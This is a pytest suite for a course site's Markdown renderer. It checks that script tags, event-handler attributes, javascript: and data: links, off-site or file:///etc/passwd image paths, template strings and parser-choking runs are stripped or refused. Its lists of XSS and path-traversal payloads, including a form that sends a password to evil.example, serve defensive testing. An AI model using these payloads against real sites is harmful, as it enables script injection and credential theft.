"""What hostile and ordinary Markdown becomes. Case ids are those of the safety paper of the project."""

import re

import pytest
from bs4 import BeautifulSoup

from app.content.markdown.engine import TangledError, as_rendered
from app.content.markdown.tangles import find_tangle
from tests.support.tree import LESSON, SVG, lesson

VECTORS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<b onmouseover=alert(1)>x</b>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=https://evil.example/>",
    "<object data=javascript:alert(1)></object>",
    "<form action=https://evil.example><input name=password></form>",
    "<details open ontoggle=alert(1)>x</details>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "# x {: onclick=alert(1) #x}",
    "*x*{: onclick=alert(1) style=color:red}",
    "![x](images/a.svg){: onerror=alert(1)}",
    "```html\n<script>alert(1)</script>\n```",
    '*[XSS]: "><script>alert(1)</script>\n\nXSS',
    '!!! note "<img src=x onerror=alert(1)>"\n    x',
    '=== "<script>alert(1)</script>"\n    x',
    '??? "><script>alert(1)</script>"\n    x',
    "[^a]\n\n[^a]: <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "\x02wzxhzdk:0\x03",
]
LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:x)",
    "[x](//evil.example/)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](http://evil.example)",
    "[x](https://my.gov.uz@evil.example)",
    "[x](file:///etc/passwd)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
]
PICTURES = [
    "http://evil.example/x.png",
    "https://evil.example/x.png",
    "//evil.example/x.png",
    "data:image/png;base64,AAAA",
    "file:///etc/passwd",
    "/etc/passwd",
    "../../admin/delete?id=1",
    "../../../../etc/passwd",
    "images/uy.svg?x=1",
    "\\\\evil.example\\x.png",
]
TANGLES = {
    "open brackets": "[" * 20_000,
    "open images": "![" * 10_000,
    "open links": "[a](" * 5_000,
    "open tags": "<a " * 7_000,
    "stars": "*a " * 7_000,
    "brackets and letters": "[a][" * 5_000,
    "quotes": "> " * 5_000,
    "ticks": "`" * 20_000,
    "a long line": "a" * 2_000_000,
}
ACTIVE = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input", "meta", "base", "link"}


@pytest.fixture
def html(engine):
    """The HTML of one text as the child gives it."""

    def render(text, shape="document", tag="uz"):
        return as_rendered(engine.render(tag, [(text, shape)])[0]).html

    return render


@pytest.mark.parametrize("shape", ["document", "block", "inline"])
@pytest.mark.parametrize("vector", VECTORS + LINKS)
def test_md01_nothing_on_a_page_can_run(html, vector, shape):
    soup = BeautifulSoup(html(vector, shape), "html.parser")
    assert not soup.find(list(ACTIVE))
    for tag in soup.find_all(True):
        assert not [name for name in tag.attrs if name.startswith("on") or name == "style"]
        assert all(re.fullmatch(r"mark\w+[ai]\d+|#fn\S+", tag[name]) for name in ("href", "src") if tag.get(name))


def test_md01_raw_html_is_shown_as_text(body):
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in body("## A {#address}\n\n<script>alert(1)</script>")


@pytest.mark.parametrize("link", LINKS)
def test_md01_a_link_that_may_not_be_is_refused_or_is_no_link(codes, engine, link):
    found = codes({LESSON: lesson(f"## A {{#address}}\n\n{link}\n")})
    links = as_rendered(engine.render("uz", [(link, "document")])[0]).links
    assert [code.split(": ")[1] for code in found if "-link" in code] in ([], ["bad-link"], ["dead-link"])
    assert bool(links) == any("-link" in code for code in found)


@pytest.mark.parametrize("src", PICTURES)
def test_md02_md03_only_pictures_of_the_course_are_shown(codes, src):
    files = {LESSON: lesson(f"## A {{#address}}\n\n![Uy]({src})\n"), "courses/sample/01-start/images/uy.svg": SVG}
    assert [code.split(": ")[1] for code in codes(files)] in (["bad-image"], ["missing-image"])


def test_md03_a_picture_of_another_course_is_not_there(codes):
    files = {
        LESSON: lesson("## A {#address}\n\n![Uy](../../other/images/uy.svg)\n"),
        "courses/other/images/uy.svg": SVG,
    }
    assert f"{LESSON}:9: missing-image" in codes(files)


@pytest.mark.parametrize("text", TANGLES.values(), ids=TANGLES)
def test_md04_hostile_runs_are_refused_before_they_are_rendered(text):
    assert find_tangle(text) == 0


def test_md04_hostile_runs_are_a_fault_with_a_line(codes):
    assert codes({LESSON: lesson("## A {#address}\n\n" + "[" * 20_000)}) == [f"{LESSON}:9: tangled"]


def test_md04_hostile_brackets_stop_in_two_seconds(engine, html):
    """Past the first wall, the child's own limits end it, and the next text is rendered."""
    with pytest.raises(TangledError):
        html("[" * 20_000)
    assert html("salom") == "<p>salom</p>"


def test_md04_a_text_that_breaks_the_parser_is_a_fault(codes, html):
    """A nesting that python-markdown cannot follow, and then a text that it can."""
    assert f"{LESSON}:9: tangled" in codes({LESSON: lesson("## A {#address}\n\n" + "- " * 5000 + "x")})
    assert html('=== "A"\n    x').startswith('<div class="tab admonition">')


@pytest.mark.parametrize("text", ["{{7*7}}", "a {% include 'x' %} b", "a\n{% x %}", "${7*7}", "%s %(x)s"])
@pytest.mark.parametrize("shape", ["document", "inline"])
def test_md08_templates_are_shown_as_they_are_written(html, text, shape):
    assert BeautifulSoup(html(text, shape), "html.parser").get_text().strip() == text


def test_md08_a_title_is_shown_as_it_is_written(compiled):
    text = lesson("## A {#address}\n\nx").replace("Boshlash", '"{{7*7}} {% x %} ${x} %s"')
    made = compiled({LESSON: text})
    assert made.release.courses[0].lessons[0].texts["uz"].title == "{{7*7}} {% x %} ${x} %s"


def test_md09_ids_names_and_targets_of_authors_do_not_reach_the_page(html):
    text = "[x](/uz/){: #forms name=csrf_token target=_blank .danger }\n\np\n{: #csrf_token }\n\n## H {#csrf_token}"
    soup = BeautifulSoup(html(text), "html.parser")
    assert not soup.find(id=True)
    assert not soup.find(attrs={"name": True})
    assert not soup.find(attrs={"target": True})
    assert soup.a["rel"] == ["noopener"]


@pytest.mark.parametrize("id_", ["main", "forms", "csrf-token", "yordam"])
def test_md09_an_id_of_the_page_is_refused(codes, id_):
    assert f"{LESSON}:9: reserved-id" in codes({LESSON: lesson(f"## A {{#address}}\n\n### B {{#{id_}}}")})


def test_md09_an_id_that_is_none_is_refused(codes):
    assert f"{LESSON}:9: bad-id" in codes({LESSON: lesson("## A {#address}\n\n### B {#csrf_token}")})


def test_tables_lists_notes_and_code_become_html(html):
    text = "| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n\n1. y\n\n```\n<z>\n```\n\nT\n:   D\n\n> q"
    soup = BeautifulSoup(html(text), "html.parser")
    assert [soup.find(tag).get_text() for tag in ("th", "td", "ul", "ol", "dd")] == ["a", "1", "\nx\n", "\ny\n", "D"]
    assert soup.pre.get_text() == "<z>\n"


def test_tabs_stand_one_under_another_with_their_titles(html):
    soup = BeautifulSoup(html('=== "Telefon"\n    bir\n\n    ikki\n\n=== "Kompyuter"\n    uch\n\nkeyin'), "html.parser")
    assert [tab.p.get_text() for tab in soup.select("div.tab")] == ["Telefon", "Kompyuter"]
    assert not soup.find(["input", "label"])
    assert soup.find_all("p")[-1].get_text() == "keyin"


def test_details_open_without_a_script(html):
    soup = BeautifulSoup(html('??? tip "Misol"\n    matn'), "html.parser")
    assert soup.details.summary.get_text() == "Misol"
    assert soup.details["class"] == ["tip"]


def test_notes_carry_their_kind_and_title(html):
    soup = BeautifulSoup(html('!!! warning "Diqqat"\n    matn'), "html.parser")
    assert soup.div["class"] == ["admonition", "warning"]
    assert soup.select_one(".admonition-title").get_text() == "Diqqat"


@pytest.mark.parametrize(("tag", "words"), [("uz", "Matnga qaytish, 1-izoh"), ("ru", "Вернуться к тексту, сноска 1")])
def test_footnotes_lead_there_and_back_in_the_language_of_the_text(html, tag, words):
    soup = BeautifulSoup(html("a[^x]\n\n[^x]: izoh", tag=tag), "html.parser")
    there, back = soup.find("a", class_="footnote-ref"), soup.find("a", class_="footnote-backref")
    assert soup.find(id=there["href"][1:]).name == "li"
    assert soup.find(id=back["href"][1:]).name == "sup"
    assert back["title"] == words


def test_abbreviations_say_what_they_mean(html):
    assert '<abbr title="Bazaviy miqdor">BHM</abbr>' in html("BHM narxi\n\n*[BHM]: Bazaviy miqdor")


@pytest.mark.parametrize("text", ["1. bir", "# bir", "- bir", "> bir", "    bir"])
def test_an_option_is_one_line_and_never_a_block(html, text):
    assert (
        BeautifulSoup(html(text, "inline"), "html.parser").find(["ol", "ul", "h1", "h2", "blockquote", "pre"]) is None
    )


def test_a_picture_says_its_size_and_only_the_first_loads_at_once(body):
    files = {f"courses/sample/01-start/images/{name}.svg": SVG.replace("rect", name) for name in ("path", "circle")}
    soup = BeautifulSoup(
        body("## A {#address}\n\n![Uy](images/path.svg)\n\n![Yoʻl](images/circle.svg)", files=files), "html.parser"
    )
    first, second = soup.find_all("img")
    assert re.fullmatch(r"/media/[0-9a-f]{64}/path\.svg", first["src"])
    assert (first["width"], first["height"], first["alt"]) == ("640", "400", "Uy")
    assert "loading" not in first.attrs
    assert (second["loading"], second["decoding"]) == ("lazy", "async")


def test_a_language_has_its_own_picture_when_there_is_one(compiled):
    text = "## A {#address}\n\n![X](images/a.svg)"
    made = compiled(
        {
            LESSON: lesson(text),
            "courses/sample/01-start/images/a.svg": SVG,
            "courses/sample/01-start/images/a.uz-Cyrl.svg": SVG.replace("rect", "path"),
        }
    )
    texts = made.release.courses[0].lessons[0].texts
    assert "/a.svg" in texts["uz"].body_html
    assert "/a.uz-Cyrl.svg" in texts["uz-Cyrl"].body_html


def test_a_link_to_a_file_leads_to_its_page_in_the_same_language(compiled):
    quiz = "../../../quizzes/sample/final.uz.md"
    links = f"[a](../course.uz.md) [b](./) [c](lesson.uz.md#address) [d]({quiz}) [e](/ru/courses/)"
    texts = compiled({LESSON: lesson(f"## A {{#address}}\n\n{links}")}).release.courses[0].lessons[0].texts
    found = {tag: re.findall(r'href="([^"]+)"', texts[tag].body_html) for tag in ("uz", "uz-Cyrl")}
    assert found["uz"] == [
        "/uz/courses/sample/",
        "/uz/courses/sample/start/",
        "/uz/courses/sample/start/#address",
        "/uz/courses/sample/quiz/final/",
        "/uz/courses/",
    ]
    assert found["uz-Cyrl"] == [href.replace("/uz/", "/uz-Cyrl/") for href in found["uz"]]


def test_a_link_outside_keeps_its_address_and_gives_nothing_away(body):
    html = body("## A {#address}\n\n[x](https://my.gov.uz/uz?a=1&b=2) [y](tel:1242) [z](mailto:a@example.uz)")
    assert '<a href="https://my.gov.uz/uz?a=1&amp;b=2" rel="noopener">x</a>' in html
    assert '<a href="tel:1242">y</a> <a href="mailto:a@example.uz">z</a>' in html


def test_sections_are_the_headings_of_the_second_level_with_their_ids(compiled):
    text = "## Bir & ikki {#address}\n\n### Ichki {#inner}\n\n## `Kod` {#code}"
    made = compiled(
        {LESSON: lesson(text), "courses/sample/01-start/lesson.ru.md": lesson_ru_with("address inner code")}
    )
    sections = made.release.courses[0].lessons[0].texts["uz"].sections
    assert [(section.id, section.title) for section in sections] == [("address", "Bir & ikki"), ("code", "Kod")]


def lesson_ru_with(ids):
    heads = zip(("##", "###", "##"), ids.split(), strict=True)
    return "---\ntitle: Т\nsummary: С.\n---\n\n" + "\n\n".join(f"{mark} Ж {{#{id_}}}" for mark, id_ in heads)


def test_an_empty_text_has_nothing_of_the_text_before(engine):
    pieces = [("## A {#a}\n\n![x](images/a.svg)", "document"), (" \n", "document")]
    empty = as_rendered(engine.render("uz", pieces)[1])
    assert (empty.html, empty.headings, empty.images, empty.ids) == ("", (), (), ())
